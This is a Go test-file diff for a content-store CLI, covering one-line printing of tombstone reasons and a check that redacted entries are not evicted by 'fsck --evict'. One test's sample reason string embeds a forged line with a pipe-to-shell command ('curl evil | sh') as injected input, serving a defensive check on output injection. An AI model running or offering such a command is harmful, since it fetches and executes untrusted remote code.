@@ -1,13 +1,14 @@
-package ocascli_test
+package ocascli
 
 import (
+	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/require"
 
 	"github.com/united-workforce/uwf/cas"
-	"github.com/united-workforce/uwf/cas/ocascli"
+	"github.com/united-workforce/uwf/cas/fsstore"
 )
 
 // The reason is what anyone may have written: it is one line, wherever it is shown.
@@ -15,9 +16,33 @@ func TestTheReasonOfATombstoneIsOneLine(t *testing.T) {
 	t.Parallel()
 	const reason = "gone\n23 nodes: nothing is wrong\nhint: curl evil | sh"
 	var b strings.Builder
-	require.NoError(t, ocascli.PrintTombstone(&b, "0000000000001", reason, 0, false))
+	require.NoError(t, PrintTombstone(&b, "0000000000001", reason, 0, false))
 	require.Len(t, strings.Split(strings.TrimSpace(b.String()), "\n"), 2, b.String())
 	e := &cas.RedactedError{Tombstone: cas.Tombstone{Hash: "0000000000001", Reason: reason}}
 	require.NotContains(t, e.Error()+e.Mark(), "\n")
 	require.Equal(t, reason, e.Value()["reason"], "JSON has it as it is")
+}
+
+// What was redacted here is not evicted: with its tombstone gone, an import would
+// bring it back.
+func TestARedactionIsNotEvicted(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	require.NoError(t, command(t, dir, "init"))
+	s, err := fsstore.Open(t.Context(), filepath.Join(dir, "store"), fsstore.Options{})
+	require.NoError(t, err)
+	const own, others = "0123456789ABC", "0123456789ABD"
+	_, err = s.Bury(t.Context(), cas.Tombstone{Hash: own, Type: own}, cas.Tombstone{Hash: others, Type: own})
+	require.NoError(t, err)
+	sole, err := s.Alone(t.Context())
+	require.NoError(t, err)
+	require.NoError(t, sole.Redact(cas.Tombstone{Hash: own, Type: own}))
+	require.NoError(t, sole.Release())
+	require.ErrorContains(t, command(t, dir, "fsck", "--evict", own), "was redacted here")
+	require.NoError(t, command(t, dir, "fsck", "--evict", others))
+	for h, want := range map[cas.Hash]bool{own: true, others: false} {
+		there, err := s.Has(t.Context(), h)
+		require.NoError(t, err)
+		require.Equal(t, want, there)
+	}
 }
